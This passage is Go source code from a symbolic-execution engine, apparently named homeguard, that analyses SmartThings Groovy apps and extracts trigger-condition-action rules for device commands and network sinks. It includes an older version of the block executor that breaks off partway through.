		return unkLTimetoday
	case "getSunriseAndSunset":
		return mapVal{entries: map[string]value{
			"sunrise": termVal{rule.Var{Name: "env.sunrise", Kind: rule.VarEnvFeature, Type: rule.TypeInt}},
			"sunset":  termVal{rule.Var{Name: "env.sunset", Kind: rule.VarEnvFeature, Type: rule.TypeInt}},
		}}
	case "getLocation":
		return valLocation
	case "textToSpeech":
		return unkLTts
	case "parseJson", "parseXml", "parseLanMessage":
		return unkLParsedPayload
	case "Math", "Makefile":
		return unkCall
	}
	// Math.* style calls arrive as receiver calls; bare max/min/abs:
	switch call.Method {
	case "max", "min", "abs", "round", "floor", "ceil":
		if len(call.Args) >= 1 {
			if t, ok := asTerm(ex.eval(call.Args[0], st)); ok {
				return termVal{t} // keep the first operand symbolically
			}
		}
		return unkLMath
	}
	// User-defined method in expression position: inline along a single
	// merged path (sinks inside are still discovered).
	if m := ex.script.Method(call.Method); m != nil {
		if st.depth >= ex.lim.MaxCallDepth {
			return unkLDepthLimit
		}
		outs := ex.inlineMethod(m, call, st, nil)
		if len(outs) == 1 && outs[0].retVal != nil {
			rv := outs[0].retVal
			outs[0].retVal = nil
			return rv
		}
		if len(outs) > 1 {
			ex.warnf("branching in expression-position call %q; result untracked", call.Method)
		}
		return unkCall
	}
	if ex.isAPISink(call.Method) {
		ex.emitAPISink(call, st)
		return unkLSinkResult
	}
	return unkAPICall
}

// evalUnary handles !, - on symbolic values.
func (ex *executor) evalUnary(n *groovy.Unary, st *state) value {
	x := ex.eval(n.X, st)
	switch n.Op {
	case groovy.Not:
		if c, ok := asConstraint(x); ok {
			return boolVal{rule.Negate(c)}
		}
		return unkLNotUnknown
	case groovy.Minus:
		if t, ok := asTerm(x); ok {
			if iv, ok := t.(rule.IntVal); ok {
				return termVal{rule.IntVal(-int64(iv))}
			}
		}
		return unkLNegate
	}
	return unkLUnary
}

// evalBinary combines symbolic values under a binary operator.
func (ex *executor) evalBinary(op groovy.Kind, l, r value) value {
	switch op {
	case groovy.AndAnd:
		lc, lok := asConstraint(l)
		rc, rok := asConstraint(r)
		switch {
		case lok && rok:
			return boolVal{rule.Conj(lc, rc)}
		case lok:
			// Dropping an untrackable conjunct over-approximates the
			// then-branch condition (conservative for threat reporting);
			// the negated else-branch may be correspondingly too strong —
			// the standard static-analysis trade-off, surfaced as a
			// warning by the branch handler when both sides are unknown.
			return boolVal{lc}
		case rok:
			return boolVal{rc}
		}
		return unkLAndAnd
	case groovy.OrOr:
		lc, lok := asConstraint(l)
		rc, rok := asConstraint(r)
		if lok && rok {
			return boolVal{rule.Disj(lc, rc)}
		}
		return unkLOrOr // cannot over-approximate a disjunction soundly
	case groovy.Eq, groovy.NotEq, groovy.Lt, groovy.LtEq, groovy.Gt, groovy.GtEq:
		lt, lok := asTerm(l)
		rt, rok := asTerm(r)
		if !lok || !rok {
			return unkLCmp
		}
		return boolVal{rule.Cmp{Op: cmpOp(op), L: lt, R: rt}}
	case groovy.Plus, groovy.Minus:
		lt, lok := asTerm(l)
		rt, rok := asTerm(r)
		if !lok || !rok {
			return unkLArith
		}
		return addTerms(lt, rt, op == groovy.Minus)
	case groovy.Star, groovy.Slash, groovy.Percent, groovy.Power:
		// Multiplicative arithmetic over two constants folds; otherwise
		// untracked.
		li, lok := termInt(l)
		ri, rok := termInt(r)
		if lok && rok {
			switch op {
			case groovy.Star:
				return termVal{rule.IntVal(li * ri)}
			case groovy.Slash:
				if ri != 0 {
					return termVal{rule.IntVal(li / ri)}
				}
			case groovy.Percent:
				if ri != 0 {
					return termVal{rule.IntVal(li % ri)}
				}
			}
		}
		return unkLMult
	case groovy.KwIn:
		// x in [a, b, c] → disjunction of equalities.
		lt, lok := asTerm(l)
		if !lok {
			return unkLIn
		}
		if list, ok := r.(listVal); ok {
			var alts []rule.Constraint
			for _, el := range list.elems {
				if et, ok := asTerm(el); ok {
					alts = append(alts, rule.Cmp{Op: rule.OpEq, L: lt, R: et})
				}
			}
			if len(alts) > 0 {
				return boolVal{rule.Disj(alts...)}
			}
		}
		if rt, ok := asTerm(r); ok {
			// membership in a symbolic multi-select input ≈ equality.
			return boolVal{rule.Cmp{Op: rule.OpEq, L: lt, R: rt}}
		}
		return unkLIn
	}
	return unkLBinop
}

func termInt(v value) (int64, bool) {
	t, ok := asTerm(v)
	if !ok {
		return 0, false
	}
	iv, ok := t.(rule.IntVal)
	return int64(iv), ok
}

// addTerms builds var+const sums where possible.
func addTerms(l, r rule.Term, minus bool) value {
	sign := int64(1)
	if minus {
		sign = -1
	}
	switch lt := l.(type) {
	case rule.IntVal:
		switch rt := r.(type) {
		case rule.IntVal:
			return termVal{rule.IntVal(int64(lt) + sign*int64(rt))}
		case rule.Var:
			if !minus {
				return termVal{rule.Sum{X: rt, K: int64(lt)}}
			}
		}
	case rule.Var:
		switch rt := r.(type) {
		case rule.IntVal:
			return termVal{rule.Sum{X: lt, K: sign * int64(rt)}}
		}
	case rule.Sum:
		if rt, ok := r.(rule.IntVal); ok {
			return termVal{rule.Sum{X: lt.X, K: lt.K + sign*int64(rt)}}
		}
	case rule.StrVal:
		if rt, ok := r.(rule.StrVal); ok && !minus {
			return termVal{rule.StrVal(string(lt) + string(rt))}
		}
	}
	return unkLSum
}

func cmpOp(k groovy.Kind) rule.CmpOp {
	switch k {
	case groovy.Eq:
		return rule.OpEq
	case groovy.NotEq:
		return rule.OpNe
	case groovy.Lt:
		return rule.OpLt
	case groovy.LtEq:
		return rule.OpLe
	case groovy.Gt:
		return rule.OpGt
	case groovy.GtEq:
		return rule.OpGe
	}
	return rule.OpEq
}
