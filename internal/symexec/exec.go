package symexec

import (
	"homeguard/internal/capability"
	"homeguard/internal/groovy"
	"homeguard/internal/rule"
)

// execBlock executes statements in order, forking on branches, and appends
// the states that flow past the end of the block to out (states that hit
// `return` are marked st.ret and also included — callers decide whether a
// return terminates the path or only the inlined method).
//
// Continuing states are threaded through a local double buffer so the
// per-statement state lists allocate only when a block actually forks;
// execStmt appends into the buffer it is handed instead of returning fresh
// slices. Indistinguishable fork siblings are merged after every statement
// (see mergeAdjacent) so unconstrained branching cannot multiply identical
// states; their multiplicity is preserved for path counts and emission.
func (ex *executor) execBlock(stmts []groovy.Stmt, st *state, out []*state) []*state {
	switch len(stmts) {
	case 0:
		return append(out, st)
	case 1:
		// Single-statement block (closure bodies, guard bodies): no
		// intermediate state lists at all.
		base := len(out)
		out = ex.execStmt(stmts[0], st, out)
		if countMult(out[base:]) > ex.lim.MaxPaths {
			ex.warnf("path limit reached; truncating exploration")
			out = truncMult(out, base, ex.lim.MaxPaths)
		}
		if len(out)-base > 1 {
			out = mergeAdjacent(out, base)
		}
		return out
	}
	bufA := append(ex.getStateBuf(), st)
	bufB := ex.getStateBuf()
	for i, s := range stmts {
		dst := bufB[:0]
		base := 0
		if i == len(stmts)-1 {
			dst = out
			base = len(out)
		}
		total := 0
		for _, cur := range bufA {
			if cur.ret {
				dst = append(dst, cur)
				total += cur.mult
				continue
			}
			mark := len(dst)
			dst = ex.execStmt(s, cur, dst)
			total += countMult(dst[mark:])
			if total > ex.lim.MaxPaths {
				ex.warnf("path limit reached; truncating exploration")
				dst = truncMult(dst, base, ex.lim.MaxPaths)
				total = ex.lim.MaxPaths
			}
		}
		if len(dst)-base > 1 {
			dst = mergeAdjacent(dst, base)
		}
		if i == len(stmts)-1 {
			ex.putStateBuf(bufA)
			ex.putStateBuf(bufB)
			return dst
		}
		bufA, bufB = dst, bufA
	}
	return append(out, bufA...) // unreachable: the last statement returns
}

// getStateBuf / putStateBuf recycle the per-block state lists across the
// (recursive) block executions of one extraction.
func (ex *executor) getStateBuf() []*state {
	if n := len(ex.stateBufs); n > 0 {
		b := ex.stateBufs[n-1]
		ex.stateBufs = ex.stateBufs[:n-1]
		return b[:0]
	}
	return make([]*state, 0, 4)
}

func (ex *executor) putStateBuf(b []*state) {
	ex.stateBufs = append(ex.stateBufs, b[:0])
}

// countMult sums the path multiplicities of states.
func countMult(states []*state) int {
	n := 0
	for _, s := range states {
		n += s.mult
	}
	return n
}

// truncMult trims states[base:] so their multiplicities sum to at most
// limit, splitting the boundary state's multiplicity if needed.
func truncMult(states []*state, base, limit int) []*state {
	n := 0
	for i := base; i < len(states); i++ {
		if n+states[i].mult >= limit {
			states[i].mult = limit - n
			if states[i].mult == 0 {
				return states[:i]
			}
			return states[:i+1]
		}
		n += states[i].mult
	}
	return states
}

// mergeAdjacent collapses runs of consecutive states that are
// indistinguishable by construction (shared environment, shared constraint
// backing, same path attributes — see sameFork) into one state carrying
// their combined multiplicity. Only adjacent states merge, so the relative
// emission order of distinct paths is preserved exactly.
func mergeAdjacent(states []*state, base int) []*state {
	w := base
	for i := base; i < len(states); i++ {
		if w > base && sameFork(states[w-1], states[i]) {
			states[w-1].mult += states[i].mult
			continue
		}
		states[w] = states[i]
		w++
	}
	return states[:w]
}

// execStmt executes one statement, appending the continuing states to out.
func (ex *executor) execStmt(s groovy.Stmt, st *state, out []*state) []*state {
	switch n := s.(type) {
	case *groovy.ExprStmt:
		return ex.execExprStmt(n.X, st, out)
	case *groovy.DeclStmt:
		return ex.execDecl(n, st, out)
	case *groovy.AssignStmt:
		return ex.execAssign(n, st, out)
	case *groovy.IfStmt:
		return ex.execIf(n, st, out)
	case *groovy.SwitchStmt:
		return ex.execSwitch(n, st, out)
	case *groovy.ReturnStmt:
		if n.Value != nil {
			st.retVal = ex.eval(n.Value, st)
		}
		st.ret = true
		return append(out, st)
	case *groovy.ForStmt:
		return ex.execLoop(n.Var, n.Iterable, n.Body, st, out)
	case *groovy.WhileStmt:
		// Bounded abstraction: execute the body once under the loop
		// condition (sinks inside loops are discovered; iteration counts
		// are not modeled).
		if c, ok := asConstraint(ex.eval(n.Cond, st)); ok {
			body := st.fork()
			body.assume(c)
			skip := st
			skip.assume(rule.Negate(c))
			return append(ex.execBlock(n.Body.Stmts, body, out), skip)
		}
		return append(ex.execBlock(n.Body.Stmts, st.fork(), out), st)
	case *groovy.Block:
		return ex.execBlock(n.Stmts, st, out)
	case *groovy.BreakStmt, *groovy.ContinueStmt:
		return append(out, st)
	case *groovy.MethodDecl:
		return append(out, st) // nested decl: nothing to execute
	}
	return append(out, st)
}

// execExprStmt handles statement-position expressions: sinks, user-method
// calls (inlined with full forking), scheduling APIs, and ignorable calls.
func (ex *executor) execExprStmt(e groovy.Expr, st *state, out []*state) []*state {
	call, ok := e.(*groovy.Call)
	if !ok {
		ex.eval(e, st) // evaluate for completeness (may record warnings)
		return append(out, st)
	}
	return ex.execCall(call, st, out)
}

// execCall executes a call in statement position with path forking.
func (ex *executor) execCall(call *groovy.Call, st *state, out []*state) []*state {
	// Scheduling APIs re-enter a scheduled method with a delay/period.
	if call.Receiver == nil && capability.SchedulingAPIs[call.Method] {
		return ex.execSchedulingCall(call, st, out)
	}
	// Sink APIs (messaging, HTTP, mode changes).
	if call.Receiver == nil && ex.isAPISink(call.Method) {
		ex.emitAPISink(call, st)
		// httpGet-style calls take a response closure: execute it.
		for _, a := range call.Args {
			if cl, ok := a.(*groovy.ClosureExpr); ok {
				return ex.execClosure(closureVal{cl: cl, env: st.env}, unkHTTPResponse, st, out)
			}
		}
		return append(out, st)
	}
	// Device commands and device-collection iteration.
	if call.Receiver != nil {
		recv := ex.eval(call.Receiver, st)
		switch r := recv.(type) {
		case deviceVal:
			return ex.execDeviceCall(r, call, st, out)
		case locationVal:
			if call.Method == "setMode" {
				ex.emitLocationMode(call, st)
				return append(out, st)
			}
		case listVal, mapVal, unknownVal, stateVal:
			// Collection iteration with closures.
			if isIterMethod(call.Method) {
				return ex.execIterCall(recv, call, st, out)
			}
		case closureVal:
			if call.Method == "call" {
				return ex.execClosure(r, nil, st, out)
			}
		}
		// Unknown receiver method: evaluate args for nested closures.
		for _, a := range call.Args {
			if cl, ok := a.(*groovy.ClosureExpr); ok {
				return ex.execClosure(closureVal{cl: cl, env: st.env}, unkIter, st, out)
			}
		}
		return append(out, st)
	}
	// setLocationMode("Night")
	if call.Method == "setLocationMode" {
		ex.emitLocationMode(call, st)
		return append(out, st)
	}
	// sendEvent / logging / UI — ignorable.
	if ignorableAPI(call.Method) {
		return append(out, st)
	}
	// User-defined method: inline with forking.
	if m := ex.script.Method(call.Method); m != nil {
		return ex.inlineMethod(m, call, st, out)
	}
	// Bare closure-taking call (e.g. a find with side effects).
	for _, a := range call.Args {
		if cl, ok := a.(*groovy.ClosureExpr); ok {
			return ex.execClosure(closureVal{cl: cl, env: st.env}, unkIter, st, out)
		}
	}
	// Plain concatenation: this diagnostic fires once per path through an
	// unmodeled call, and Sprintf's boxing shows up in extraction profiles.
	ex.warnf("unmodeled API call \"" + call.Method + "\"")
	return append(out, st)
}

// execSchedulingCall models runIn/runOnce/schedule/runEvery*.
func (ex *executor) execSchedulingCall(call *groovy.Call, st *state, out []*state) []*state {
	var handler string
	delay := 0
	period := 0
	switch call.Method {
	case "runIn":
		if len(call.Args) < 2 {
			return append(out, st)
		}
		delay = -1 // symbolic unless a constant resolves
		if t, ok := asTerm(ex.eval(call.Args[0], st)); ok {
			if iv, ok := t.(rule.IntVal); ok {
				delay = int(iv)
			}
		}
		handler = handlerName(call.Args[1])
	case "runOnce", "schedule":
		if len(call.Args) < 2 {
			return append(out, st)
		}
		handler = handlerName(call.Args[1])
		if call.Method == "schedule" {
			period = 86400
		}
	default: // runEvery*
		if len(call.Args) < 1 {
			return append(out, st)
		}
		handler = handlerName(call.Args[0])
		period = periodOf(call.Method)
	}
	m := ex.script.Method(handler)
	if m == nil {
		ex.warnf("scheduled handler %q not found", handler)
		return append(out, st)
	}
	if st.depth >= ex.lim.MaxCallDepth {
		return append(out, st)
	}
	// Trace into the scheduled method: successive sinks inherit the delay.
	sub := st.fork()
	sub.depth++
	if delay > 0 && sub.when >= 0 {
		sub.when += delay
	} else if delay < 0 {
		sub.when = -1
	}
	if period > 0 {
		sub.period = period
	}
	sub.env = newScope(nil)
	// The caller's own path continues unaffected (scheduling is async);
	// the scheduled method's states are explored for their sinks and
	// discarded.
	ex.execBlock(m.Body.Stmts, sub, nil)
	return append(out, st)
}

// execDeviceCall handles method calls on device references: capability
// commands become sinks; attribute-ish methods are handled in eval.
func (ex *executor) execDeviceCall(dev deviceVal, call *groovy.Call, st *state, out []*state) []*state {
	if isIterMethod(call.Method) {
		// devices.each { d -> ... } — bind the closure parameter to the
		// same (collection) device.
		if len(call.Args) == 1 {
			if cl, ok := call.Args[0].(*groovy.ClosureExpr); ok {
				return ex.execClosure(closureVal{cl: cl, env: st.env}, dev, st, out)
			}
		}
		return append(out, st)
	}
	if cmdRef := ex.resolveCommand(dev.in.Capability, call.Method); cmdRef != nil {
		ex.emitDeviceSink(dev, cmdRef, call, st)
		return append(out, st)
	}
	// Not a command (e.g. currentValue in statement position): evaluate.
	ex.evalCall(call, st)
	return append(out, st)
}

// resolveCommand finds the command definition for a device method call,
// delegating to the process-wide memoized registry lookup: device
// commands repeat across paths, rules, apps and extractions.
func (ex *executor) resolveCommand(capName, cmd string) *capability.CommandRef {
	return capability.ResolveCommand(capName, cmd)
}

// inlineMethod executes a user-defined method body with full forking.
func (ex *executor) inlineMethod(m *groovy.MethodDecl, call *groovy.Call, st *state, out []*state) []*state {
	if st.depth >= ex.lim.MaxCallDepth {
		ex.warnf("call depth limit at %q", m.Name)
		return append(out, st)
	}
	callerEnv := st.env
	st.depth++
	st.env = newScope(nil)
	for i, p := range m.Params {
		var v value = unkArg
		if i < len(call.Args) {
			v = ex.evalIn(call.Args[i], callerEnv, st)
		} else if p.Default != nil {
			v = ex.evalIn(p.Default, callerEnv, st)
		}
		st.env.define(p.Name, v)
	}
	base := len(out)
	out = ex.execBlock(m.Body.Stmts, st, out)
	for _, o := range out[base:] {
		o.ret = false // return ends the method, not the handler
		o.depth--
		o.env = callerEnv
	}
	return out
}

// execClosure executes a closure body binding its parameters. Closures in
// this subset receive at most one argument (the iteration element, device
// or response); arg is nil when there is none.
func (ex *executor) execClosure(cv closureVal, arg value, st *state, out []*state) []*state {
	env := cv.env
	if env == nil {
		env = st.env
	}
	inner := newScope(env)
	if len(cv.cl.Params) == 0 {
		if arg != nil {
			inner.define("it", arg)
		}
	} else {
		for i, p := range cv.cl.Params {
			if i == 0 && arg != nil {
				inner.define(p.Name, arg)
			} else {
				inner.define(p.Name, unkClosureArg)
			}
		}
	}
	saved := st.env
	popRestore := env == saved
	st.env = inner
	base := len(out)
	out = ex.execBlock(cv.cl.Body.Stmts, st, out)
	for _, o := range out[base:] {
		if popRestore {
			// The closure runs over the current environment: pop the
			// parameter frame so body writes that thawed outer frames
			// stay visible on each path's own chain.
			o.env = o.env.parent
		} else {
			// A stored closure carries its defining scope; the caller's
			// environment is disconnected from it and restored as saved.
			o.env = saved
		}
		o.ret = false
	}
	return out
}

// execIterCall runs collection iteration (each/find/findAll/collect/any/
// every) over a symbolic collection: the closure body executes once with a
// symbolic element.
func (ex *executor) execIterCall(recv value, call *groovy.Call, st *state, out []*state) []*state {
	var elem value = unkElement
	if l, ok := recv.(listVal); ok && len(l.elems) > 0 {
		elem = l.elems[0]
	}
	for _, a := range call.Args {
		if cl, ok := a.(*groovy.ClosureExpr); ok {
			return ex.execClosure(closureVal{cl: cl, env: st.env}, elem, st, out)
		}
	}
	return append(out, st)
}

func isIterMethod(m string) bool {
	switch m {
	case "each", "eachWithIndex", "find", "findAll", "collect", "any",
		"every", "sort", "findResult":
		return true
	}
	return false
}

func ignorableAPI(m string) bool {
	switch m {
	case "log", "debug", "trace", "info", "warn", "error",
		"sendEvent", "createEvent",
		"unsubscribe", "unschedule", "pause",
		"getChildDevices", "refresh", "poll", "ping",
		"section", "paragraph", "href", "label", "mode", "page",
		"dynamicPage", "preferences", "definition", "input",
		"metadata", "simulator", "tiles", "subscribeToCommand",
		"updateSetting", "addChildDevice":
		return true
	}
	return false
}

// execDecl handles `def x = expr`, including ternary forking.
func (ex *executor) execDecl(n *groovy.DeclStmt, st *state, out []*state) []*state {
	if n.Init == nil {
		st.defineVar(n.Name, unkUninit)
		return append(out, st)
	}
	if tern, ok := n.Init.(*groovy.Ternary); ok {
		return ex.forkTernary(tern, st, out, func(s *state, v value) {
			s.defineVar(n.Name, v)
			if t, ok := asTerm(v); ok {
				s.data = append(s.data, rule.DataConstraint{Var: n.Name, Term: t})
			}
		})
	}
	v := ex.eval(n.Init, st)
	if t, ok := asTerm(v); ok {
		st.data = append(st.data, rule.DataConstraint{Var: n.Name, Term: t})
	}
	st.defineVar(n.Name, v)
	return append(out, st)
}

// execAssign handles assignments and op-assignments.
func (ex *executor) execAssign(n *groovy.AssignStmt, st *state, out []*state) []*state {
	if tern, ok := n.Value.(*groovy.Ternary); ok && n.Op == groovy.Assign {
		return ex.forkTernary(tern, st, out, func(s *state, v value) {
			ex.assignTo(n.Target, v, s)
		})
	}
	var v value
	if n.Op == groovy.Assign {
		v = ex.eval(n.Value, st)
	} else {
		// x op= v  →  x = x op v
		op := map[groovy.Kind]groovy.Kind{
			groovy.PlusAssign:  groovy.Plus,
			groovy.MinusAssign: groovy.Minus,
			groovy.StarAssign:  groovy.Star,
			groovy.SlashAssign: groovy.Slash,
		}[n.Op]
		v = ex.evalBinary(op, ex.eval(n.Target, st), ex.eval(n.Value, st))
	}
	ex.assignTo(n.Target, v, st)
	return append(out, st)
}

func (ex *executor) assignTo(target groovy.Expr, v value, st *state) {
	switch t := target.(type) {
	case *groovy.Ident:
		if tm, ok := asTerm(v); ok {
			st.data = append(st.data, rule.DataConstraint{Var: t.Name, Term: tm})
		}
		st.setVar(t.Name, v)
	case *groovy.PropertyGet:
		// state.x = v — track within this execution.
		if recv := ex.eval(t.Receiver, st); recv != nil {
			if _, isState := recv.(stateVal); isState {
				st.setVar("state."+t.Name, v)
				return
			}
		}
	case *groovy.IndexGet:
		// m["k"] = v — untracked.
	}
}

// forkTernary evaluates cond ? a : b by forking the path.
func (ex *executor) forkTernary(t *groovy.Ternary, st *state, out []*state, apply func(*state, value)) []*state {
	c, ok := asConstraint(ex.eval(t.Cond, st))
	thenSt := st.fork()
	elseSt := st
	if ok {
		thenSt.assume(c)
		elseSt.assume(rule.Negate(c))
	}
	apply(thenSt, ex.eval(t.Then, thenSt))
	apply(elseSt, ex.eval(t.Else, elseSt))
	return append(out, thenSt, elseSt)
}

// execIf forks on the condition.
func (ex *executor) execIf(n *groovy.IfStmt, st *state, out []*state) []*state {
	cond := ex.eval(n.Cond, st)
	c, ok := asConstraint(cond)
	thenSt := st.fork()
	elseSt := st
	if ok {
		thenSt.assume(c)
		elseSt.assume(rule.Negate(c))
	} else {
		ex.warnf("untracked branch condition; exploring both branches")
	}
	out = ex.execBlock(n.Then.Stmts, thenSt, out)
	if n.Else != nil {
		out = ex.execStmt(n.Else, elseSt, out)
	} else {
		out = append(out, elseSt)
	}
	return out
}

// execSwitch forks per case arm (Groovy fallthrough is not modeled: the
// SmartThings review guidelines require a terminated case per GString
// value, and corpus apps follow it).
func (ex *executor) execSwitch(n *groovy.SwitchStmt, st *state, out []*state) []*state {
	subj := ex.eval(n.Subject, st)
	subjTerm, hasTerm := asTerm(subj)
	var negations []rule.Constraint
	for _, cs := range n.Cases {
		arm := st.fork()
		if hasTerm {
			if caseTerm, ok := asTerm(ex.eval(cs.Value, arm)); ok {
				eq := rule.Cmp{Op: rule.OpEq, L: subjTerm, R: caseTerm}
				arm.assume(eq)
				negations = append(negations, rule.Negate(eq))
			}
		}
		out = ex.execBlock(cs.Body.Stmts, arm, out)
	}
	dflt := st
	for _, neg := range negations {
		dflt.assume(neg)
	}
	if n.Default != nil {
		out = ex.execBlock(n.Default.Stmts, dflt, out)
	} else {
		out = append(out, dflt)
	}
	return out
}

// execLoop executes for-in / C-style loops with single-iteration
// abstraction.
func (ex *executor) execLoop(varName string, iterable groovy.Expr, body *groovy.Block, st *state, out []*state) []*state {
	if iterable != nil {
		it := ex.eval(iterable, st)
		var elem value = unkElement
		switch l := it.(type) {
		case listVal:
			if len(l.elems) > 0 {
				elem = l.elems[0]
			}
		case deviceVal:
			elem = l
		}
		inner := st.fork()
		inner.env = newScope(inner.env)
		inner.env.define(varName, elem)
		base := len(out)
		out = ex.execBlock(body.Stmts, inner, out)
		for _, o := range out[base:] {
			// Pop the loop frame rather than restoring the saved pointer:
			// a body write to an outer variable thaws (copies) the outer
			// frames on o's own chain, and o must keep those copies.
			o.env = o.env.parent
		}
		return append(out, st)
	}
	return append(ex.execBlock(body.Stmts, st.fork(), out), st)
}

// ---------- sink emission ----------

// emitDeviceSink records a rule for a capability command.
func (ex *executor) emitDeviceSink(dev deviceVal, ref *capability.CommandRef, call *groovy.Call, st *state) {
	act := rule.Action{
		Subject:    dev.in.Name,
		Capability: ref.Capability.Name,
		Command:    ref.Command.Name,
		When:       maxInt(st.when, 0),
		Period:     st.period,
	}
	if st.when < 0 {
		act.When = -1 // symbolic delay
	}
	for i, a := range call.Args {
		v := ex.eval(a, st)
		if t, ok := asTerm(v); ok {
			act.Params = append(act.Params, t)
			if _, isConst := t.(rule.Var); isConst {
				act.Data = append(act.Data, rule.Cmp{
					Op: rule.OpEq,
					L:  rule.Var{Name: paramVar(dev.in.Name, ref.Command.Name, i), Kind: rule.VarLocal, Type: rule.TypeInt},
					R:  t,
				})
			}
		} else {
			act.Params = append(act.Params, rule.StrVal("?"))
		}
	}
	ex.emitRule(act, st)
}

func paramVar(dev, cmd string, i int) string {
	return dev + "." + cmd + ".arg" + string(rune('0'+i))
}

// emitLocationMode records a setLocationMode/location.setMode sink.
func (ex *executor) emitLocationMode(call *groovy.Call, st *state) {
	act := rule.Action{
		Subject: "location",
		Command: "setLocationMode",
		When:    maxInt(st.when, 0),
		Period:  st.period,
	}
	if len(call.Args) > 0 {
		if t, ok := asTerm(ex.eval(call.Args[0], st)); ok {
			act.Params = append(act.Params, t)
		}
	}
	ex.emitRule(act, st)
}

// isAPISink reports whether the bare API is a non-scheduling sink.
func (ex *executor) isAPISink(name string) bool {
	if capability.SchedulingAPIs[name] {
		return false
	}
	return capability.IsSinkAPI(name) || capability.MessagingSinks[name]
}

// emitAPISink records messaging/HTTP/hub-command sinks.
func (ex *executor) emitAPISink(call *groovy.Call, st *state) {
	act := rule.Action{
		Subject: call.Method,
		Command: call.Method,
		When:    maxInt(st.when, 0),
		Period:  st.period,
	}
	for _, a := range call.Args {
		if t, ok := asTerm(ex.eval(a, st)); ok {
			act.Params = append(act.Params, t)
		}
	}
	ex.emitRule(act, st)
}

// emitRule snapshots the current path into a rule, splitting event-value
// comparisons out of the path condition into the trigger constraint. A
// merged state (mult > 1) emits one rule per represented path, exactly as
// the unmerged paths would have.
func (ex *executor) emitRule(act rule.Action, st *state) {
	tr := st.trigger
	evVar := tr.EventVar()
	ex.trigScratch = ex.trigScratch[:0]
	ex.condScratch = ex.condScratch[:0]
	if tr.Constraint != nil {
		ex.trigScratch = append(ex.trigScratch, tr.Constraint)
	}
	// Classify each top-level conjunct of each predicate without building
	// intermediate slices (splitConj allocated one per predicate).
	for _, p := range st.preds {
		ex.classifyPred(p, evVar)
	}
	trigCs, condCs := ex.trigScratch, ex.condScratch
	tr.Constraint = nil
	switch len(trigCs) {
	case 0:
	case 1:
		tr.Constraint = trigCs[0] // Conj of one constraint is itself
	default:
		tr.Constraint = rule.Conj(dedupConstraints(trigCs)...)
	}
	r := &rule.Rule{
		App:     ex.app.Name,
		Trigger: tr,
		Condition: rule.Condition{
			Data:       append([]rule.DataConstraint(nil), st.data...),
			Predicates: dedupConstraints(condCs),
		},
		Action: act,
	}
	if ex.rules == nil {
		ex.rules = make([]*rule.Rule, 0, 4)
	}
	ex.rules = append(ex.rules, r)
	// Re-expand merged identical paths: each would have emitted this rule.
	for i := 1; i < st.mult; i++ {
		cp := *r
		cp.ID = ""
		ex.rules = append(ex.rules, &cp)
	}
}

// classifyPred routes each top-level conjunct of c into the trigger or
// condition scratch list depending on whether it constrains the
// triggering event's value (the paper: "the comparison in terms of the
// event's value is regarded as part of the trigger constraint").
// Comparisons of the event value against user inputs or constants become
// trigger constraints; conjuncts not mentioning the event variable stay
// path conditions.
func (ex *executor) classifyPred(c rule.Constraint, evVar string) {
	if and, ok := c.(rule.And); ok {
		for _, sub := range and.Cs {
			ex.classifyPred(sub, evVar)
		}
		return
	}
	if rule.MentionsEventVar(c, evVar) {
		ex.trigScratch = append(ex.trigScratch, c)
	} else {
		ex.condScratch = append(ex.condScratch, c)
	}
}

// dedupConstraints removes duplicate constraints (by canonical rendering,
// the historical dedup key), preserving first-occurrence order. The
// dominant comparison-vs-comparison case is decided structurally without
// rendering; only mixed or composite constraint kinds fall back to the
// rendered strings.
func dedupConstraints(cs []rule.Constraint) []rule.Constraint {
	switch len(cs) {
	case 0:
		return nil
	case 1:
		return []rule.Constraint{cs[0]}
	}
	out := make([]rule.Constraint, 0, len(cs))
outer:
	for i, c := range cs {
		for j := 0; j < i; j++ {
			if renderEqual(cs[j], c) {
				continue outer
			}
		}
		out = append(out, c)
	}
	return out
}

// renderEqual reports whether a.String() == b.String() — the dedup
// equivalence — without rendering when both sides are plain comparisons.
func renderEqual(a, b rule.Constraint) bool {
	ca, okA := a.(rule.Cmp)
	cb, okB := b.(rule.Cmp)
	if okA && okB {
		return ca.Op == cb.Op && termRenderEqual(ca.L, cb.L) && termRenderEqual(ca.R, cb.R)
	}
	return a.String() == b.String()
}

// termRenderEqual matches Term.String() equality: same-kind terms compare
// structurally (each kind's rendering is injective); mixed kinds fall
// back to the rendered strings.
func termRenderEqual(x, y rule.Term) bool {
	switch xv := x.(type) {
	case rule.Var:
		if yv, ok := y.(rule.Var); ok {
			return xv.Name == yv.Name // Var renders as its name only
		}
	case rule.StrVal:
		if yv, ok := y.(rule.StrVal); ok {
			return xv == yv
		}
	case rule.IntVal:
		if yv, ok := y.(rule.IntVal); ok {
			return xv == yv
		}
	case rule.BoolVal:
		if yv, ok := y.(rule.BoolVal); ok {
			return xv == yv
		}
	case rule.Sum:
		if yv, ok := y.(rule.Sum); ok {
			return xv.X.Name == yv.X.Name && xv.K == yv.K
		}
	}
	if x == nil || y == nil {
		return x == y
	}
	return x.String() == y.String()
}

func maxInt(a, b int) int {
	if a > b {
		return a
	}
	return b
}
