package symexec

import (
	"homeguard/internal/capability"
	"homeguard/internal/groovy"
	"homeguard/internal/rule"
)

// execBlock executes statements in order, forking on branches. It returns
// the set of states that flow past the end of the block (states that hit
// `return` are marked st.ret and also returned — callers decide whether a
// return terminates the path or only the inlined method).
func (ex *executor) execBlock(stmts []groovy.Stmt, st *state) []*state {
	states := []*state{st}
	for _, s := range stmts {
		var next []*state
		for _, cur := range states {
			if cur.ret {
				next = append(next, cur)
				continue
			}
			next = append(next, ex.execStmt(s, cur)...)
			if len(next) > ex.lim.MaxPaths {
				ex.warnf("path limit reached; truncating exploration")
				next = next[:ex.lim.MaxPaths]
			}
		}
		states = next
	}
	return states
}

// execStmt executes one statement, returning the continuing states.
func (ex *executor) execStmt(s groovy.Stmt, st *state) []*state {
	switch n := s.(type) {
	case *groovy.ExprStmt:
		return ex.execExprStmt(n.X, st)
	case *groovy.DeclStmt:
		return ex.execDecl(n, st)
	case *groovy.AssignStmt:
		return ex.execAssign(n, st)
	case *groovy.IfStmt:
		return ex.execIf(n, st)
	case *groovy.SwitchStmt:
		return ex.execSwitch(n, st)
	case *groovy.ReturnStmt:
		if n.Value != nil {
			st.retVal = ex.eval(n.Value, st)
		}
		st.ret = true
		return []*state{st}
	case *groovy.ForStmt:
		return ex.execLoop(n.Var, n.Iterable, n.Body, st)
	case *groovy.WhileStmt:
		// Bounded abstraction: execute the body once under the loop
		// condition (sinks inside loops are discovered; iteration counts
		// are not modeled).
